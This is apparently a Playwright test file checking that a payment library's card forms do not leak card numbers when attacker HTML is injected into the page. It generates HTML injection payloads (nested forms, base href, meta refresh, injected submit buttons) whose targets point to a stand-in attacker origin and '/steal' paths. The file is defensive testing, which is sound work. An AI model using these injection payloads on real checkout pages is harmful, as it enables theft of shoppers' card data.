// Issue 15, items 1 and 2, in real browsers: markup an attacker gets into the page's HTML (the
// server puts it there, so the browser's own parser builds the DOM) must not get the card out.
// A seeded generator draws injections from the HTML parser's insertion modes (an unclosed
// <select>, table foster-parenting, unclosed and nested <form>, <template>, <base href>,
// <meta http-equiv=refresh>, injected submitters with form/formaction/formmethod/formtarget),
// places them before, at the start of, inside and after the card form of every demo page, and
// loads the page with the library blocked, late or loaded, with and without the page's CSP.
// Then a shopper types the card and submits every way the page allows, and no request (URL,
// body, headers, CSP reports included), navigation or history entry may hold a card digit run;
// the card may reach the stub Zuora's create call and nothing else.
// Decoys of the form (same id, data-* URLs) check that the page's configuration is not markup.
import {createServer, request as httpRequest, type IncomingMessage, type Server} from 'node:http';
import type {BrowserContext, Page, Route} from '@playwright/test';
import type {ZuoraStub} from 'zuora-cors/testing';
import {expect, listening, oneEngine, test, withoutOrigin} from './fixtures.js';

/** The card of these tests: Luhn-valid, no repeated 6-digit window, a code unlike any port, status or column number. */
const CARD = {name: 'Ada Lovelace', number: '4539148803436467', month: '12', year: '2031', cvv: '947'};

/** The seed of the generated cases: fixed, so a failure names a case that can be run again. */
const SEED = 0x15_01;
const GENERATED_CASES = 30;

type PageUnderTest = {
	path: string;
	formId: string;
	/** The library's bundle, as a route pattern (blocked or held for the "blocked" and "late" cases). */
	bundle: string;
	/** Control name → what the shopper types. */
	values: Record<string, string>;
	number: string;
	/** Shown when the card was saved, and when it was refused. */
	success: string;
	failure: string;
};

const IIFE = '**/dist/zuora-cors.iife.min.js';
const DEVELOPER_VALUES = {'cardHolderInfo.cardHolderName': CARD.name, creditCardNumber: CARD.number, expirationMonth: CARD.month, expirationYear: CARD.year, securityCode: CARD.cvv};
const SHOPPER_VALUES = {'cardHolderInfo.cardHolderName': CARD.name, creditCardNumber: CARD.number, expiry: `${CARD.month} / ${CARD.year.slice(-2)}`, securityCode: CARD.cvv};
const PAGES: PageUnderTest[] = [
	{path: '/card.html', formId: 'card-form', bundle: IIFE, values: SHOPPER_VALUES, number: 'creditCardNumber', success: '#result', failure: '#error'},
	{path: '/developer.html', formId: 'card-form', bundle: IIFE, values: DEVELOPER_VALUES, number: 'creditCardNumber', success: '#result', failure: '#error'},
	{
		path: '/account.html',
		formId: 'account-form',
		bundle: IIFE,
		values: {firstName: 'Ada', lastName: 'Lovelace', cardHolderName: CARD.name, cardNumber: CARD.number, expirationMonth: CARD.month, expirationYear: CARD.year, securityCode: CARD.cvv},
		number: 'cardNumber',
		success: '#account-result',
		failure: '#account-error',
	},
	{path: '/spa/', formId: 'card-form', bundle: '**/spa/app.js', values: DEVELOPER_VALUES, number: 'creditCardNumber', success: '#saved', failure: '#error:not(:empty)'},
	{path: '/vite/', formId: 'card-form', bundle: '**/vite/assets/*.js', values: DEVELOPER_VALUES, number: 'creditCardNumber', success: '#saved', failure: '#error:not(:empty)'},
];

type Bundle = 'blocked' | 'late' | 'loaded';
type Placement = 'before' | 'form-start' | 'fields-start' | 'between-controls' | 'after';
/** Where the injected markup sends things: `%EVIL%` is another origin that records what it gets. */
type Targets = {evil: string};

type Case = {title: string; mustBind?: boolean; page: PageUnderTest; markup: string; placement: Placement; bundle: Bundle; csp: boolean};

/** mulberry32: a small seeded generator, so the cases are the same on every run. */
function random(seed: number) {
	let state = seed >>> 0;
	const next = () => {
		state = (state + 0x6d_2b_79_f5) >>> 0;
		let t = state;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
	};

	return {next, pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!};
}

type Random = ReturnType<typeof random>;

/** Where an injected form or submitter sends: the shop's own path, another origin, the page itself. */
const ACTIONS = ['/collect', '%EVIL%/collect', '//%EVIL_HOST%/collect', '?collect=1', ''];

/** The parser's insertion modes an injection can throw it into, each as a markup generator. */
const MODES: Record<string, (rng: Random, formId: string) => string> = {
	'unclosed select': rng => rng.pick(['<select name="s">', '<select><option>x', '<select name="s"><option value="1">one</option>', '<select multiple>']),
	'unclosed form': rng => `<form action="${rng.pick(ACTIONS)}" method="${rng.pick(['post', 'get'])}">`,
	'unclosed form + select': rng => `<form action="${rng.pick(ACTIONS)}" method="${rng.pick(['post', 'get'])}"><select>`,
	'nested forms': rng => `<form action="${rng.pick(ACTIONS)}" method="${rng.pick(['post', 'get'])}"><form action="${rng.pick(ACTIONS)}" method="get">`,
	'table foster-parenting': rng => rng.pick(['<table><tr><td>', '<table>', '<table><tr>', '<table><caption>', '<table><tbody><tr><td><form action="/collect">']),
	template: rng => rng.pick(['<template>', `<template><form action="${rng.pick(ACTIONS)}" method="get">`, '<template><select>']),
	'base href': rng => `<base href="${rng.pick(['%EVIL%/', '//%EVIL_HOST%/', '%EVIL%/steal/'])}">`,
	'meta refresh': rng => `<meta http-equiv="refresh" content="${rng.pick(['0', '1'])};url=${rng.pick(ACTIONS.filter(Boolean))}">`,
	'injected submitter': (rng, formId) => {
		const attributes = [
			rng.next() < 0.7 ? `form="${formId}"` : '',
			`formaction="${rng.pick(ACTIONS)}"`,
			rng.next() < 0.7 ? `formmethod="${rng.pick(['get', 'post', 'dialog'])}"` : '',
			rng.next() < 0.5 ? `formtarget="${rng.pick(['_blank', '_self', '_top', 'sink'])}"` : '',
			rng.next() < 0.3 ? 'formnovalidate' : '',
		]
			.filter(Boolean)
			.join(' ');
		return rng.pick([`<button ${attributes}>Pay now</button>`, `<input type="submit" value="Pay now" ${attributes}>`, `<button type="submit" ${attributes}>Pay now`]);
	},
	'injected control': (rng, formId) =>
		`<input name="${rng.pick(['note', 'x', 'email'])}" value="1" ${rng.next() < 0.5 ? `form="${formId}"` : ''}>${rng.next() < 0.5 ? `<button form="${formId}" formaction="${rng.pick(ACTIONS)}">Go</button>` : ''}`,
};

const PLACEMENTS: Placement[] = ['before', 'form-start', 'fields-start', 'between-controls', 'after'];
const BUNDLES: Bundle[] = ['blocked', 'late', 'loaded'];

/** The generated cases: every mode in turn (and sometimes a second one after it), the rest drawn. */
function generateCases(): Case[] {
	const rng = random(SEED);
	const modes = Object.keys(MODES);
	const cases: Case[] = [];
	for (let index = 0; index < GENERATED_CASES; index++) {
		const page = rng.pick(PAGES);
		const names = [modes[index % modes.length]!, ...(rng.next() < 0.35 ? [rng.pick(modes)] : [])];
		const markup = names.map(name => MODES[name]!(rng, page.formId)).join('');
		const placement = rng.pick(PLACEMENTS);
		const bundle = rng.pick(BUNDLES);
		const csp = rng.next() < 0.5;
		cases.push({title: `#${index} ${names.join(' + ')} ${placement} on ${page.path}, bundle ${bundle}, ${csp ? 'CSP' : 'no CSP'}: ${markup}`, page, markup, placement, bundle, csp});
	}

	return cases;
}

/** Where a decoy says the card should go: another origin, or a path on the shop's own origin (which a CSP lets through). */
const DECOY_URLS = ['%EVIL%/v1/payment-methods/credit-cards', '/steal/v1/payment-methods/credit-cards', '%EVIL%'];
const DECOY_SIGNATURE_URLS = ['%EVIL%/signature', '/steal/signature'];

/** Decoys of the page's configuration: elements under the form's id with URL attributes, clobbered globals, config-looking <meta>. */
const DECOYS: Array<(rng: Random, formId: string) => string> = [
	(rng, formId) => `<form id="${formId}" data-zuora-url="${rng.pick(DECOY_URLS)}" data-signature-url="${rng.pick(DECOY_SIGNATURE_URLS)}" data-allowed-hosts="%EVIL%">`,
	(rng, formId) => `<form id="${formId}" data-zuora-url="${rng.pick(DECOY_URLS)}" data-signature-url="${rng.pick(DECOY_SIGNATURE_URLS)}"></form>`,
	(rng, formId) => `<div id="${formId}" data-zuora-url="${rng.pick(DECOY_URLS)}" data-signature-url="${rng.pick(DECOY_SIGNATURE_URLS)}" data-allowed-hosts="%EVIL%"></div>`,
	rng => `<form name="zuoraCorsDemo" data-zuora-url="${rng.pick(DECOY_URLS)}"></form><a id="zuoraCorsDemo" href="${rng.pick(DECOY_URLS)}">x</a>`,
	rng => `<meta name="zuora-url" content="${rng.pick(DECOY_URLS)}"><meta name="signature-url" content="${rng.pick(DECOY_SIGNATURE_URLS)}"><meta name="account-key" content="A666">`,
];

/** Decoys on every page, with the library loaded: the card still goes to the stub Zuora only, or the page binds nothing. */
function decoyCases(): Case[] {
	const rng = random(SEED + 1);
	return PAGES.flatMap((page, index) =>
		[0, 1].map(turn => {
			const kind = (index * 2 + turn) % DECOYS.length;
			const markup = DECOYS[kind]!(rng, page.formId);
			const csp = turn === 0;
			// Only a decoy under the form's own id can stop the page binding its form.
			return {
				mustBind: !markup.includes(`id="${page.formId}"`),
				title: `decoy #${kind} before the form on ${page.path}, ${csp ? 'CSP' : 'no CSP'}: ${markup}`,
				page,
				markup,
				placement: 'before' as const,
				bundle: 'loaded' as const,
				csp,
			};
		}),
	);
}

/** The two injections the outside review used, each with and without the CSP. */
function reviewCases(): Case[] {
	const page = PAGES[0]!;
	return [true, false].flatMap(csp => [
		{
			title: `review: an unclosed <select> before the card fields, bundle blocked, ${csp ? 'CSP' : 'no CSP'}`,
			page,
			markup: '<select>',
			placement: 'form-start' as const,
			bundle: 'blocked' as const,
			csp,
		},
		{
			title: `review: <form action=/collect method=post><select> before the real form, bundle loaded, ${csp ? 'CSP' : 'no CSP'}`,
			page,
			markup: '<form action=/collect method=post><select>',
			placement: 'before' as const,
			bundle: 'loaded' as const,
			csp,
		},
	]);
}

/** The HTML with `markup` at `placement` (found in the page as served; the test fails if a page changed shape). */
function inject(html: string, markup: string, placement: Placement, number: string): string {
	const anchors: Record<Placement, {pattern: RegExp; after: boolean}> = {
		before: {pattern: /<form\b/, after: false},
		'form-start': {pattern: /<form\b[^>]*>/, after: true},
		'fields-start': {pattern: /<fieldset\b[^>]*data-zuora-cors-fields[^>]*>/, after: true},
		'between-controls': {pattern: new RegExp(`<input\\b[^>]*name="?${number}\\b`), after: false},
		after: {pattern: /<\/form>/, after: true},
	};
	const {pattern, after} = anchors[placement];
	const match = pattern.exec(html);
	if (!match) {
		throw new Error(`no ${placement} anchor (${String(pattern)}) in the page`);
	}

	const at = match.index + (after ? match[0].length : 0);
	return html.slice(0, at) + markup + html.slice(at);
}

type Recorded = {where: string; method: string; url: string; headers: Record<string, string | string[] | undefined>; body: string};

/** A server on port 0 keeping every request whole (method, URL, headers, body), answering with `answer`. */
async function startRecorder(answer: (request: IncomingMessage, body: Buffer, respond: (status: number, headers: Record<string, string>, body: string | Buffer) => void) => void) {
	const received: Recorded[] = [];
	const server: Server = createServer((request, response) => {
		const chunks: Buffer[] = [];
		request.on('data', (chunk: Buffer) => chunks.push(chunk));
		request.on('end', () => {
			const body = Buffer.concat(chunks);
			received.push({where: 'server', method: request.method ?? '', url: request.url ?? '', headers: request.headers, body: body.toString('utf8')});
			answer(request, body, (status, headers, content) => {
				response.writeHead(status, headers).end(content);
			});
		});
	});
	return {...(await listening(server)), received};
}

/**
 * The shop as the attacker left it: a proxy in front of the demo backend that puts `markup` into
 * the HTML of one page (the parser builds what it builds), with or without the page's CSP, and
 * records every request the browser makes to the shop's origin, CSP reports included.
 */
async function startShop(target: string, {path, markup, csp}: {path: string; markup: (html: string) => string; csp: boolean}) {
	let shopUrl = '';
	const shop = await startRecorder((request, body, respond) => {
		// The backend issues signatures to its own origin only: the proxy speaks for the page.
		const origin = request.headers.origin === shopUrl ? {origin: target} : {};
		const upstream = httpRequest(`${target}${request.url ?? '/'}`, {method: request.method, headers: {...request.headers, host: new URL(target).host, ...origin}}, answer => {
			const chunks: Buffer[] = [];
			answer.on('data', (chunk: Buffer) => chunks.push(chunk));
			answer.on('end', () => {
				const {'content-security-policy': policy, 'content-length': _length, ...headers} = answer.headers;
				let content: string | Buffer = Buffer.concat(chunks);
				if (new URL(request.url ?? '/', shopUrl).pathname === path && String(headers['content-type']).startsWith('text/html')) {
					try {
						content = markup(content.toString('utf8'));
					} catch (error) {
						// The page changed shape (no anchor for the placement): the test fails on it, loudly.
						respond(500, {'content-type': 'text/plain'}, String(error));
						return;
					}
				}

				respond(answer.statusCode ?? 502, {...(headers as Record<string, string>), ...(csp && policy ? {'content-security-policy': String(policy)} : {})}, content);
			});
		});
		upstream.end(body);
	});
	shopUrl = shop.url;
	return shop;
}

/** Every request of the context (popups included) and every navigation, as the browser saw them. */
function watch(context: BrowserContext) {
	const requests: Recorded[] = [];
	const navigations: string[] = [];
	context.on('request', request => {
		requests.push({where: 'browser', method: request.method(), url: request.url(), headers: request.headers(), body: request.postData() ?? ''});
	});
	const follow = (page: Page) => {
		page.on('framenavigated', frame => navigations.push(frame.url()));
	};

	context.pages().forEach(follow);
	context.on('page', follow);
	return {requests, navigations};
}

/** Header values that are random or the browser's own (a code's 3 digits can turn up in them by chance). */
const RANDOM_HEADERS = new Set(['cookie', 'signature', 'token', 'idempotency-key', 'user-agent', 'sec-ch-ua', 'sec-ch-ua-full-version-list', 'content-length', 'if-none-match']);

/** Percent- and plus-decoded, so `4539+1488` and `%34%35` read as what they are. */
function decoded(text: string): string {
	return text.replaceAll('+', ' ').replace(/%([\da-f]{2})/gi, (_match, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));
}

/** What in `text` is card data: a run of 6 of the card's digits (up to 3 separators between them), or the code as its own digit run. */
function cardDataIn(text: string, {code = true} = {}): string[] {
	const found: string[] = [];
	for (const variant of [text, decoded(text)]) {
		for (let start = 0; start + 6 <= CARD.number.length; start++) {
			const digits = CARD.number.slice(start, start + 6);
			if (new RegExp(digits.split('').join('[^\\da-z]{0,3}'), 'i').test(variant)) {
				found.push(`card digits ${digits}`);
			}
		}

		if (code && new RegExp(`(?<!\\d)${CARD.cvv}(?!\\d)`).test(variant)) {
			found.push('security code');
		}
	}

	return [...new Set(found)];
}

/** Each request that carries card data where it may not: anywhere but the body of the stub's create call. */
function leaksIn(requests: Recorded[], stub: ZuoraStub): string[] {
	const stubOrigin = new URL(stub.url).origin;
	return [
		...new Set(
			requests.flatMap(request => {
				const url = new URL(request.url, 'http://relative.invalid');
				// The card's one destination: the body of a POST to the stub's create path (from the browser, seen by the browser).
				const toZuora = request.where === 'browser' && url.origin === stubOrigin && request.method === 'POST' && url.pathname.startsWith('/v1/') && !url.pathname.includes('signature');
				// Without the origin: a random port may hold digits of the card.
				const parts = [
					{text: withoutOrigin(request.url), code: true},
					...Object.entries(request.headers).map(([name, value]) => ({text: `${name}: ${String(value)}`, code: !RANDOM_HEADERS.has(name.toLowerCase())})),
					...(toZuora ? [] : [{text: request.body, code: true}]),
				];
				const found = parts.flatMap(({text, code}) => cardDataIn(text, {code}));
				return found.length > 0 ? [`${request.where} ${request.method} ${withoutOrigin(request.url).slice(0, 160)}: ${found.length} findings (${found[0]})`] : [];
			}),
		),
	];
}

/** Whether the stub got a create call (a card, or an account with its card). */
function createdAtStub(stub: ZuoraStub): boolean {
	return stub.requests().some(request => request.method === 'POST' && request.path.startsWith('/v1/') && !request.path.includes('signature'));
}

/** Runs a page step; a step that meets a page navigating away (meta refresh, a native submit) just ends. */
async function step(action: () => Promise<unknown>) {
	try {
		await action();
	} catch (error) {
		if (!/context was destroyed|navigat|Target.*closed|detached|not attached|Timeout/i.test(String(error))) {
			throw error;
		}
	}
}

/** Types the card where the page lets a shopper, and forces it into the controls it keeps disabled (as autofill might try). */
async function typeCard(page: Page, target: PageUnderTest) {
	for (const [name, value] of Object.entries(target.values)) {
		const controls = page.locator(`[name="${name}"]`);
		// eslint-disable-next-line no-await-in-loop -- one control after the other, as a shopper types
		for (const control of await controls.all()) {
			// eslint-disable-next-line no-await-in-loop
			await step(async () =>
				(await control.isEnabled())
					? control.fill(value, {timeout: 1000})
					: control.evaluate((element, value) => {
							(element as HTMLInputElement).value = value;
						}, value),
			);
		}
	}
}

/** Every way to submit: Enter in the number and the code fields, then a click on each submitter (injected ones included). */
async function submitEveryWay(page: Page, target: PageUnderTest, url: string) {
	const ways: Array<() => Promise<unknown>> = [
		async () => page.locator(`[name="${target.number}"]`).first().press('Enter', {timeout: 1000}),
		async () => page.locator('[name="securityCode"]').first().press('Enter', {timeout: 1000}),
	];
	const submitters = await page
		.locator('button, input[type=submit]')
		.count()
		.catch(() => 0);
	for (let index = 0; index < submitters; index++) {
		ways.push(async () => page.locator('button, input[type=submit]').nth(index).click({force: true, timeout: 2000}));
	}

	for (const way of ways) {
		// A submission that navigated away: back to a fresh copy of the page, card typed again.
		if (page.url() !== url) {
			// eslint-disable-next-line no-await-in-loop
			await step(async () => page.goto(url, {waitUntil: 'commit'}));
			// eslint-disable-next-line no-await-in-loop
			await step(async () => page.locator(`[name="${target.number}"]`).first().waitFor({state: 'attached', timeout: 3000}));
			// eslint-disable-next-line no-await-in-loop
			await typeCard(page, target);
		}

		// Disabled controls refuse focus and keys: focus them the way a script could, then press.
		// eslint-disable-next-line no-await-in-loop
		await step(way);
	}
}

/** Holds the bundle until released, or blocks it. */
async function controlBundle(page: Page, target: PageUnderTest, bundle: Bundle) {
	let release = () => undefined as void;
	if (bundle === 'blocked') {
		await page.route(target.bundle, async route => route.abort('blockedbyclient'));
	} else if (bundle === 'late') {
		const arrived = new Promise<void>(resolve => {
			release = resolve;
		});
		const held: Route[] = [];
		await page.route(target.bundle, async route => {
			held.push(route);
			await arrived;
			await route.continue().catch(() => undefined);
		});
	}

	return () => {
		release();
	};
}

async function settle(page: Page) {
	await step(async () => page.waitForLoadState('networkidle', {timeout: 5000}));
}

async function runCase(page: Page, stub: ZuoraStub, merchantUrl: string, testCase: Case) {
	const {page: target, markup, placement, bundle, csp} = testCase;
	const evil = await startRecorder((_request, _body, respond) => {
		respond(200, {'content-type': 'text/html'}, 'thanks');
	});
	const filled = markup.replaceAll('%EVIL_HOST%', new URL(evil.url).host).replaceAll('%EVIL%', evil.url);
	const shop = await startShop(merchantUrl, {path: target.path, csp, markup: html => inject(html, filled, placement, target.number)});
	stub.allowOrigin(shop.url);
	try {
		const {requests, navigations} = watch(page.context());
		const release = await controlBundle(page, target, bundle);
		const url = new URL(target.path, shop.url).href;
		await step(async () => page.goto(url, {waitUntil: bundle === 'late' ? 'commit' : 'load'}));
		await step(async () => page.locator(`[name="${target.number}"]`).first().waitFor({state: 'attached', timeout: 3000}));
		await typeCard(page, target);
		await submitEveryWay(page, target, url);
		if (bundle === 'late') {
			// A native submission starts at once; with the bundle held the page never goes idle.
			await page.waitForTimeout(500);
			release();
			await step(async () => expect(page.locator(`[name="${target.number}"]`).first()).toBeEnabled({timeout: 3000}));
			await typeCard(page, target);
			await submitEveryWay(page, target, url);
		}

		await settle(page);
		const everything = [...requests, ...shop.received.map(request => ({...request, where: 'shop'})), ...evil.received.map(request => ({...request, where: 'evil'}))];
		expect(leaksIn(everything, stub), 'requests carrying card data').toEqual([]);
		expect(
			navigations.flatMap(navigation => cardDataIn(withoutOrigin(navigation)).map(found => `${withoutOrigin(navigation)}: ${found}`)),
			'navigations carrying card data',
		).toEqual([]);
		// The history is made of those navigations; the open pages' URLs are its current entries.
		for (const open of page.context().pages()) {
			expect(cardDataIn(withoutOrigin(open.url())), `URL of ${open.url()}`).toEqual([]);
		}

		const enabled =
			page.url() === url &&
			(await page
				.locator(`[name="${target.number}"]`)
				.first()
				.isEnabled({timeout: 500})
				.catch(() => false));
		// After a save bindForm locks the form (controls disabled) until reset(): a page showing
		// its success took the card too.
		const saved = page.url() === url && createdAtStub(stub) && (await page.locator(`${target.success}:visible`).count()) > 0;
		const live = enabled || saved;
		if (bundle === 'blocked') {
			// Without the library no card control may take the card, wherever the parser put it.
			expect(live, 'a card control enabled without the library').toBe(false);
		}

		if (testCase.title.startsWith('decoy')) {
			// The page never asks the decoy's addresses anything.
			expect(everything.filter(request => request.where === 'evil' || request.url.includes('/steal')).map(request => `${request.where} ${request.method} ${withoutOrigin(request.url)}`)).toEqual([]);
		}

		if (testCase.mustBind) {
			expect(live, 'the page bound its form').toBe(true);
			await expect(page.locator(target.success)).toBeVisible();
			expect(createdAtStub(stub), 'the card reached the stub').toBe(true);
		}

		if (bundle !== 'blocked' && live && testCase.title.startsWith('decoy')) {
			// A decoy changes nothing for a page that bound the form: the card is saved, at the stub.
			await expect(page.locator(target.success)).toBeVisible();
		} else if (bundle !== 'blocked' && live && !/meta refresh/.test(testCase.title)) {
			// A page that let the shopper type the card did something with it: saved it at the stub, or
			// refused it with a reason (markup after the form may have swallowed where the page says so).
			await expect.poll(async () => createdAtStub(stub) || (await page.locator(`${target.failure}:visible`).count()) > 0, 'the card saved at the stub, or an error shown').toBe(true);
		}

		return {requests, shopUrl: shop.url};
	} finally {
		await Promise.all([shop.close(), evil.close()]);
	}
}

// A page the injection took away (meta refresh, a native submit) must not hang a step.
test.use({actionTimeout: 2000, navigationTimeout: 10_000});

test.describe('generated injections', () => {
	// The review's cases in both engines; the generated ones split between them (an HTML parser's
	// restructuring is the standard's, the same in both: each engine runs half, together all).
	for (const testCase of reviewCases()) {
		test(testCase.title, async ({page, demo}) => {
			test.setTimeout(60_000);
			await runCase(page, demo.stub, demo.merchant.url, testCase);
		});
	}

	for (const [index, testCase] of generateCases().entries()) {
		test(testCase.title, oneEngine(index), async ({page, demo}) => {
			test.setTimeout(60_000);
			await runCase(page, demo.stub, demo.merchant.url, testCase);
		});
	}
});

/** Each page as served, no injection: it binds and saves the card (what makes the cases above able to fail). */
const BASELINE: Case[] = PAGES.map(page => ({
	title: `baseline: ${page.path} with nothing injected, bundle loaded, CSP`,
	mustBind: true,
	page,
	markup: '',
	placement: 'after' as const,
	bundle: 'loaded' as const,
	csp: true,
}));

test.describe('decoys of the configuration', () => {
	for (const [index, testCase] of [...BASELINE, ...decoyCases()].entries()) {
		// The baselines in both engines (what makes every case able to fail there); the decoys split.
		test(testCase.title, index < BASELINE.length ? {} : oneEngine(index), async ({page, demo}) => {
			test.setTimeout(60_000);
			await runCase(page, demo.stub, demo.merchant.url, testCase);
		});
	}
});
